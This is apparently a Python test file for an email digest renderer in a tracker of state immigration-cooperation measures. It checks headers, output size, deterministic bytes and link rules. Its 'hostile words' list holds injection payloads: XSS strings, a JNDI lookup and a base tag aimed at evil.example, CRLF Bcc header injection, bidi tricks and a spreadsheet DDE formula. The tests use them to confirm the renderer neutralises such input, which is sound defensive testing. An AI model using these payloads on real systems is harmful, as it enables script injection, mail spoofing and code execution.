"""The mail: whole outputs, hostile words, size, headers, the same bytes each time."""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Callable
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default
from pathlib import Path

import msgspec
import pytest
from jinja2 import Environment, TemplateAssertionError, UndefinedError
from lxml import html as lxml_html

from tests.digest_story import (
    BANS,
    FILED,
    ICE,
    TASK_FORCE,
    VIRGINIA,
    Story,
    agreement,
    bill,
    first_week,
    list_of,
    second_week,
)
from tracker.digest import Digest, compose
from tracker.digest.parts import Unread
from tracker.mail import MOST_BYTES, Letterhead, MailError, message, render, write_preview
from tracker.mail_words import html_mails, link, short, text_mails, unread_words, wrap

SNAPSHOT = Path(__file__).parent / "snapshots" / "digest.txt"
SITE = "https://tracker.example"


@pytest.fixture(scope="module")
def digest(tmp_path_factory: pytest.TempPathFactory) -> Digest:
    story = Story(tmp_path_factory.mktemp("story"))
    cursor = first_week(story)
    second_week(story)
    return compose(story.db, after_id=cursor)


@pytest.fixture
def story(tmp_path: Path) -> Story:
    return Story(tmp_path)


def tree(text: str) -> lxml_html.HtmlElement:
    return lxml_html.document_fromstring(text)


def parsed(body: bytes) -> EmailMessage:
    mail = message_from_bytes(body, policy=default)
    assert isinstance(mail, EmailMessage)
    return mail


# -- whole outputs -----------------------------------------------------------------------------


def test_the_text_part_word_for_word(digest: Digest) -> None:
    """The snapshot is read by a person whenever it changes."""
    assert render(digest).text == SNAPSHOT.read_text(encoding="utf-8")


def test_lines_of_the_text_part_are_short_but_for_addresses(digest: Digest) -> None:
    text = render(digest, Letterhead(base_url=SITE)).text
    assert [line for line in text.splitlines() if len(line) > 76 and "://" not in line] == []


def test_the_html_part_is_ordered_by_what_matters(digest: Digest) -> None:
    page = tree(render(digest).html)
    heads = [" ".join(node.text_content().split()) for node in page.iter("h1", "h2", "h3")]
    assert heads == [
        digest.subject,
        "Decided 4",
        "Passed a chamber or the legislature 1",
        "Ahead 2",
        "Movement by state 1",
        "Washington",
        "New measures 1",
        "New to our records, introduced earlier 1",
        "Texts, versions and corrections of the record 1",
        "287(g) agreements",
        "Florida",
        "Texas",
        "Related subjects 1",
        "What was read",
    ]
    first = page.xpath("//div[@class='e']")[0]
    assert " ".join(first.text_content().split()) == (
        "Florida EO 26-901 Rescinded Fictional: requiring sheriffs to enter into 287(g) agreements"
        " with U.S. Immigration and Customs Enforcement and to honor immigration detainers"
        " Requires cooperation machine-proposed Mar 4, 2026Rescinded by EO 26-902: Fictional:"
        " prohibiting local police from honoring immigration detainers without a judicial warrant"
        " Seen Mar 8, 2026, 12:30 UTC · page read · archived copy aaaaaaaaaaaa"
    )
    rows = [
        [" ".join(cell.text_content().split()) for cell in row]
        for row in page.xpath("//table[@class='n']//tr")
    ]
    assert rows == [
        ["State", "Agreements", "Agencies"],
        ["new", "ended", "newly pending", "now", "now"],
        ["Florida", "1", "1", "0", "2", "1"],
        ["Texas", "1", "0", "1", "2", "2"],
    ]


def test_both_parts_tell_the_same(digest: Digest) -> None:
    rendered = render(digest, Letterhead(base_url=SITE))
    flat_html = " ".join(tree(rendered.html).text_content().split())
    flat_text = " ".join(rendered.text.split())
    entries = [entry for section in digest.sections for entry in section.entries]
    for entry in (*entries, *digest.related):
        for words in (entry.about.identifier, entry.headline, entry.about.title):
            assert words in flat_html
            assert words in flat_text


def test_a_mail_fetches_nothing_and_runs_nothing(digest: Digest) -> None:
    page = tree(render(digest, Letterhead(base_url=SITE)).html)
    tags = {node.tag for node in page.iter() if isinstance(node.tag, str)}
    assert not tags & {"img", "script", "link", "iframe", "object", "form", "svg", "base"}
    names = {name for node in page.iter() if isinstance(node.tag, str) for name in node.attrib}
    assert not {name for name in names if name.startswith("on") or name in {"src", "background"}}
    styles = " ".join(page.xpath("//style/text() | //@style"))
    assert "url(" not in styles
    assert "@import" not in styles
    hosts = {re.match(r"https?://([^/]+)", href).group(1) for href in page.xpath("//a/@href")}  # type: ignore[union-attr]
    assert hosts == {
        "gov.example",
        "leg.example",
        "fl-orders.example",
        "va.example",
        "wa.example",
        "ice.example",
        "tracker.example",
    }


def test_styles_are_inlined_and_dark_mode_stays_in_the_head(digest: Digest) -> None:
    page = tree(render(digest).html)
    assert all(node.get("style") for node in page.iter("h1", "h2", "h3", "a"))
    (style,) = page.xpath("//head/style/text()")
    assert "prefers-color-scheme: dark" in style
    assert page.xpath("//meta[@name='color-scheme']/@content") == ["light dark"]
    assert page.xpath("//table[@class='sheet']/@width") == ["600"]


def test_with_a_site_measures_lead_to_their_page_there(digest: Digest) -> None:
    page = tree(render(digest, Letterhead(base_url=f"{SITE}/")).html)
    links = page.xpath("//a/@href")
    assert f"{SITE}/va/2026/sb-9001/" in links
    assert "https://leg.example/us-va/sb9001" in links
    without = tree(render(digest).html).xpath("//a/@href")
    assert not [href for href in without if "tracker.example" in href]


# -- the message -------------------------------------------------------------------------------


def test_headers(digest: Digest) -> None:
    head = Letterhead(
        sender="Cooperation Tracker <digest@tracker.example>",
        recipient="A Reader <reader@people.example>",
        list_id="Weekly digest <digest.tracker.example>",
        unsubscribe="https://tracker.example/u/0",
    )
    mail = parsed(message(digest, head).as_bytes())
    assert {name: value for name, value in mail.items() if name != "Content-Type"} == {
        "From": head.sender,
        "To": head.recipient,
        "Subject": digest.subject,
        "Date": "Sun, 08 Mar 2026 13:00:00 +0000",
        "List-Id": head.list_id,
        "List-Unsubscribe": "<https://tracker.example/u/0>",
        "List-Unsubscribe-Post": "List-Unsubscribe=One-Click",
        "Auto-Submitted": "auto-generated",
        "Content-Language": "en",
        "Message-ID": mail["Message-ID"],
        "MIME-Version": "1.0",
    }
    assert re.fullmatch(r"<[0-9a-f]{32}@tracker\.example>", mail["Message-ID"])
    assert mail.get_content_type() == "multipart/alternative"
    assert [part.get_content_type() for part in mail.iter_parts()] == ["text/plain", "text/html"]


def test_without_settings_there_are_no_list_headers(digest: Digest) -> None:
    names = {name for name in message(digest) if name.startswith("List-")}
    assert names == set()


@pytest.mark.parametrize(
    "letterhead",
    [
        Letterhead(sender="a@b.example\r\nBcc: all@c.example"),
        Letterhead(sender="a@b.example, c@d.example"),
        Letterhead(sender="nobody"),
        Letterhead(recipient="a@b.example\nX: y"),
        Letterhead(list_id="x\r\nBcc: all@c.example"),
        Letterhead(unsubscribe="http://tracker.example/u"),
        Letterhead(unsubscribe="https://tracker.example/u\r\nBcc: all@c.example"),
        Letterhead(base_url="javascript:alert(1)"),
        Letterhead(base_url="tracker.example"),
    ],
)
def test_a_letterhead_that_is_none_is_refused(digest: Digest, letterhead: Letterhead) -> None:
    with pytest.raises(MailError):
        message(digest, letterhead)


@pytest.mark.parametrize("subject", ["x\r\nBcc: all@c.example", "x\nY: z", "x\rBcc: a@c.example"])
def test_a_subject_can_never_become_a_header(digest: Digest, subject: str) -> None:
    with pytest.raises(MailError):
        message(msgspec.structs.replace(digest, subject=subject))


def test_the_same_digest_gives_the_same_bytes(digest: Digest, tmp_path: Path) -> None:
    first = [path.read_bytes() for path in write_preview(digest, tmp_path / "a", base_url=SITE)]
    paths = write_preview(digest, tmp_path / "b", base_url=SITE)
    assert [path.name for path in paths] == ["digest.html", "digest.txt", "digest.eml"]
    assert [path.read_bytes() for path in paths] == first


def test_the_message_holds_both_files(digest: Digest, tmp_path: Path) -> None:
    page, text, eml = (path.read_bytes() for path in write_preview(digest, tmp_path))
    plain, html = (part.get_content() for part in parsed(eml).iter_parts())
    assert plain.replace("\r\n", "\n") == text.decode()
    assert html.replace("\r\n", "\n").rstrip("\n") == page.decode().rstrip("\n")
    assert max(map(len, eml.split(b"\r\n"))) <= 998


def test_nothing_is_written_where_the_sender_is_none(digest: Digest, tmp_path: Path) -> None:
    with pytest.raises(MailError):
        write_preview(digest, tmp_path / "out", sender="nobody")
    assert not (tmp_path / "out").exists()


# -- hostile words -----------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</td></tr></table><h1>defaced</h1>",
    "<!--",
    "-->",
    "<![CDATA[x]]>",
    "</style><style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "{{ 7 * 7 }}",
    "{% for x in range(9) %}",
    "{# gone #}",
    "${jndi:ldap://evil.example}",
    "%0d%0aBcc: all@evil.example",
    "a\r\nBcc: all@evil.example",
    "a\n\n--=_boundary",
    "a\u2028Bcc: all@evil.example",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "nul\x00byte",
    "bell\x07 esc\x1b[31mred",
    "long" * 600,
    "&lt;b&gt; &amp; &#x3c;",
    "Ünïcødé 漢字 😀 ي",
    "=cmd|' /C calc'!A0",
    "-- \nsignature",
]


def shown_of(text: str) -> str:
    """The hostile text as a reader is to see it: white space folded, controls gone."""
    kept = "".join(c for c in " ".join(text.split()) if c.isprintable() or c == " ")
    return re.sub("[\u202a-\u202e\u2066-\u2069]", "", kept)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Digest:
    story = Story(tmp_path_factory.mktemp("hostile"))
    story.run(VIRGINIA, "2026-03-08T12:00:00Z", [
        bill("us-va", f"HB {number}", f"{BANS} {words}", ("2026-03-02", FILED[1]),
            ("2026-03-05", f"Read third time and passed Senate (21-Y 19-N) {words[:300]}"))
        for number, words in enumerate(HOSTILE, start=1)
    ])  # fmt: skip
    rows = [
        agreement("2026-03-06", "tx", f"Fictional {words[:200]}", "2026-03-02", TASK_FORCE)
        for words in HOSTILE
    ]
    story.run(ICE, "2026-03-08T13:00:00Z", list_of("participating", "2026-03-06", *rows))
    return compose(story.db)


def test_hostile_words_are_words(hostile: Digest) -> None:
    rendered = render(hostile, Letterhead(base_url=SITE))
    page = tree(rendered.html)
    tags = {node.tag for node in page.iter() if isinstance(node.tag, str)}
    assert tags == {
        "html", "head", "meta", "title", "style", "body", "table", "tbody", "tr", "td", "th",
        "div", "h1", "h2", "h3", "span", "bdi", "a", "b", "p",
    }  # fmt: skip
    assert len(page.xpath("//h1")) == 1
    assert len(page.xpath("//style")) == 1
    assert all(href.startswith(("https://", "http://")) for href in page.xpath("//@href"))
    assert not [name for node in page.iter("div", "a", "td") for name in node.attrib
                if name.startswith("on")]  # fmt: skip
    titles = [bdi.text for bdi in page.xpath("//bdi")]
    assert len(titles) == len(HOSTILE)
    flat = " ".join(rendered.text.split())
    for words in HOSTILE:
        title = short(f"{BANS} {shown_of(words)}", 220)
        assert title in titles
        if "long" not in words:
            assert title in flat


def test_hostile_words_add_no_header_and_no_part(hostile: Digest) -> None:
    mail = parsed(message(hostile).as_bytes())
    assert sorted(mail.keys()) == [
        "Auto-Submitted", "Content-Language", "Content-Type", "Date", "From", "MIME-Version",
        "Message-ID", "Subject", "To",
    ]  # fmt: skip
    assert len(list(mail.iter_parts())) == 2
    text = render(hostile).text
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\u2028]", text)
    assert [line for line in text.splitlines() if line.startswith(("Bcc:", "--=_"))] == []
    assert text.splitlines().count("-- ") == 1


# -- size --------------------------------------------------------------------------------------


def test_five_thousand_changes_fit_into_one_mail(story: Story) -> None:
    def items(more: int) -> list[object]:
        acts = [(f"2026-03-{2 + n // 4:02}", f'Action "{n}" & <{"x" * 60}>') for n in range(more)]
        return [
            bill("us-va", f"HB {number}", BANS + ' & <"quoted">' * 30,
                ("2026-02-27", FILED[1]), *acts)
            for number in range(1, 251)
        ]  # fmt: skip

    story.run(VIRGINIA, "2026-03-01T12:00:00Z", items(0))  # type: ignore[arg-type]
    story.run(VIRGINIA, "2026-03-08T12:00:00Z", items(19))  # type: ignore[arg-type]
    rows = [
        agreement("2026-03-06", state, f"Fictional {number} & Sons", "2026-03-02", TASK_FORCE)
        for state in ("fl", "tx", "ga", "tn", "va", "oh")
        for number in range(60)
    ]
    story.run(ICE, "2026-03-08T13:00:00Z", list_of("participating", "2026-03-06", *rows))
    digest = compose(story.db)
    assert story.last() == 250 + 250 * 19 + 360
    assert digest.changes == 250 + 250 * 19 + 360
    rendered = render(digest, Letterhead(base_url=SITE))
    size = len(rendered.html.encode())
    assert MOST_BYTES / 2 < size <= MOST_BYTES
    shown = len(tree(rendered.html).xpath("//bdi"))
    assert (
        f"... and {250 - shown} more entries on the status site:\n{SITE}/changes/" in rendered.text
    )
    assert "... and 14 more changes of this measure on the status site:" in rendered.text
    assert "more agreements on the status site" in rendered.text
    alone = render(digest)
    assert len(alone.html.encode()) <= MOST_BYTES
    left = 250 - len(tree(alone.html).xpath("//bdi"))
    assert f"... and {left} more entries, left out for length" in alone.text


def test_most_of_a_group_is_kept_when_another_is_long(story: Story) -> None:
    """The longest group is cut first, so a flood of actions hides no decision."""
    flood = [
        bill("us-va", f"HB {n}", BANS + " and more" * 20, FILED, ("2026-03-02", "Read second time"))
        for n in range(1, 201)
    ]
    decided = [
        bill(
            "us-va", f"SB {n}", BANS + " and more" * 20, FILED, ("2026-03-05", "Vetoed by Governor")
        )
        for n in range(1, 11)
    ]
    before = [bill("us-va", one.identifier, one.title or "", FILED) for one in (*flood, *decided)]
    story.run(VIRGINIA, "2026-03-01T12:00:00Z", before)  # type: ignore[arg-type]
    cursor = story.last()
    story.run(VIRGINIA, "2026-03-08T12:00:00Z", [*flood, *decided])
    text = render(compose(story.db, after_id=cursor)).text
    assert text.count(" – Vetoed") == 10


# -- words -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("one", "expected"),
    [
        (
            Unread(
                "oh", "Ohio Legislature", "us-oh", "2026-02-02T12:00:00+00:00", "blocked", "a wall"
            ),
            "Ohio Legislature: not read since Feb 2, 2026 (Blocked by the site: a wall)",
        ),
        (
            Unread(
                "oh",
                "Ohio",
                "us-oh",
                None,
                "blocked",
                "https://o.example/?a: expected an answer, found HTTP 403: b'<!DOCTYPE html>'",
            ),
            "Ohio: never read (Blocked by the site: expected an answer, found HTTP 403)",
        ),
        (
            Unread("oh", "Ohio Legislature", "us-oh", None, "failed", ""),
            "Ohio Legislature: never read (Could not be reached)",
        ),
        (
            Unread("oh", "Ohio", "us-oh", "2026-02-02T12:00:00+00:00", "ok", "no run since"),
            "Ohio: not read since Feb 2, 2026 (no run since)",
        ),
    ],
)
def test_unread_words(one: Unread, expected: str) -> None:
    assert unread_words(one) == expected


def test_short_cuts_between_words_and_on_one_line() -> None:
    assert short("one two three", 13) == "one two three"
    assert short("one two three", 10) == "one two…"
    assert short("x" * 50, 10) == "x" * 9 + "…"
    assert short("a\r\nb", 10) == "a b"


def test_wrap_keeps_addresses_whole() -> None:
    address = "https://leg.example/" + "x" * 100
    assert wrap(address, "- ", "  ") == f"- {address}"


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "//a.example", "https://", "https://a.example/ x", "ftp://a.b"],
)
def test_only_plain_addresses_become_links(address: str) -> None:
    assert link(address) == ""
    assert link("https://a.example/" + "x" * 600) == ""
    assert link("https://a.example/?a=b&c=d") == "https://a.example/?a=b&c=d"


def test_an_empty_digest_says_what_was_not_read(story: Story) -> None:
    first_week(story)
    digest = compose(story.db, after_id=story.last(), as_of=dt.date(2026, 3, 9))
    text = render(digest).text
    assert "No change on topic in the sources that were read." in text
    assert "Source wa: not read since Mar 1, 2026 (no run since the last digest)" in text
    assert "nothing to tell" not in text


@pytest.mark.parametrize("environment", [html_mails, text_mails])
def test_no_template_can_mark_scraped_words_as_safe(environment: Callable[[], Environment]) -> None:
    with pytest.raises(TemplateAssertionError, match="safe"):
        environment().from_string("{{ title | safe }}")
    with pytest.raises(UndefinedError):
        environment().from_string("{{ nothing.like_it }}").render()
